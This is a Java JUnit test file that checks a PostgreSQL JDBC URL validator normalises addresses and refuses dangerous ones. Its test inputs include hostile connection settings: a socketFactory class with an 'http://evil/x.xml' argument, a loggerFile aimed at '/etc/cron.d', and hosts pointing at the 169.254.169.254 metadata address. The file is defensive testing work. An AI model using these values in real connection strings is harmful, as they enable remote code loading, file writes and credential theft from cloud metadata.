package dev.switchback.step.sql;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.switchback.step.CouldNotAskException;
import dev.switchback.step.Outbound;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcAddressTest {

    @ParameterizedTest
    @CsvSource({
        "jdbc:postgresql://127.0.0.1:5433/shop, jdbc:postgresql://127.0.0.1:5433/shop",
        "jdbc:postgresql://localhost/shop, jdbc:postgresql://127.0.0.1:5432/shop",
        "jdbc:postgresql:shop, jdbc:postgresql://127.0.0.1:5432/shop",
        "jdbc:postgresql:///shop, jdbc:postgresql://127.0.0.1:5432/shop",
        "jdbc:postgresql://127.0.0.1/a%20b?currentSchema=x, jdbc:postgresql://127.0.0.1:5432/a%20b?currentSchema=x",
        "jdbc:postgresql://localhost/s?sslmode=verify-full, jdbc:postgresql://localhost:5432/s?sslmode=verify-full",
        "'jdbc:postgresql://127.0.0.1:1,127.0.0.2:2/s', 'jdbc:postgresql://127.0.0.1:1,127.0.0.2:2/s'"
    })
    void looks_names_up_once_unless_the_other_side_must_show_a_certificate(String url, String pinned) throws Exception {
        assertThat(JdbcAddress.of(url, "db").pinned()).isEqualTo(pinned);
    }

    /** Classes that the driver would load, files it would open, places it would connect to instead. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                "socketFactoryArg=http://evil/x.xml",
                "SOCKETFACTORY=x",
                "socket%46actory=x",
                "sslfactory=x",
                "sslfactoryarg=x",
                "sslhostnameverifier=x",
                "sslpasswordcallback=x",
                "authenticationPluginClassName=x",
                "xmlFactoryFactory=x",
                "loggerFile=/etc/cron.d/x",
                "loggerLevel=TRACE",
                "service=x",
                "jaasApplicationName=x",
                "localSocketAddress=10.0.0.1",
                "PGHOST=169.254.169.254",
                "PGPORT=80",
                "PGDBNAME=switchback",
                "sslmode=require&loggerFile=x",
                "unheardOf=1"
            })
    void refuses_settings_by_which_the_driver_does_more_than_connect(String setting) {
        assertThatThrownBy(() -> JdbcAddress.of("jdbc:postgresql://127.0.0.1/shop?" + setting, "db"))
                .isInstanceOf(CouldNotAskException.class)
                .hasMessageContaining("with which the driver could load code, open files or connect elsewhere");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://a b/shop",
                "jdbc:postgresql://user@host/shop",
                "jdbc:postgresql://127.0.0.1:99999999/shop",
                "jdbc:postgresql://127.0.0.1/shop/../x",
                "jdbc:postgresql://127.0.0.1/shop?a=b?c=d",
                "jdbc:postgresql://h%00/x"
            })
    void refuses_what_is_no_address(String url) {
        assertThatThrownBy(() -> JdbcAddress.of(url, "db")).isInstanceOf(CouldNotAskException.class);
    }

    @Test
    void leads_nowhere_that_is_denied_not_even_as_the_second_of_two() {
        for (String hosts : new String[] {"169.254.169.254", "127.0.0.1,169.254.169.254:80"}) {
            assertThatThrownBy(() -> JdbcAddress.of("jdbc:postgresql://" + hosts + "/x", "db")
                            .pinned())
                    .isInstanceOf(Outbound.DeniedException.class);
        }
    }

    @ParameterizedTest
    @CsvSource({
        "jdbc:postgresql://127.0.0.1:5433/switchback, shop, true",
        "jdbc:postgresql://localhost:5433/switchback, shop, true",
        "jdbc:postgresql://0.0.0.0:5433/switchback, shop, true",
        "jdbc:postgresql://[::1]:5433/switchback, shop, true",
        "jdbc:postgresql://127.0.0.1:5433/sw%69tchback, shop, true",
        "'jdbc:postgresql://10.0.0.1,127.0.0.1:5433/switchback', shop, true",
        "jdbc:postgresql://127.0.0.1:5433/, switchback, true",
        "jdbc:postgresql://127.0.0.1:5433/postgres, owner, true",
        "jdbc:postgresql://127.0.0.1:5433/shop, shop, false",
        "jdbc:postgresql://127.0.0.1:5434/switchback, shop, false"
    })
    void knows_the_database_of_switchback_itself(String url, String user, boolean expected) throws Exception {
        var own = new OwnDatabase("jdbc:postgresql://127.0.0.1:5433/switchback?x=y", "owner");

        assertThat(own.isMeant(JdbcAddress.of(url, "db"), user)).isEqualTo(expected);
    }
}
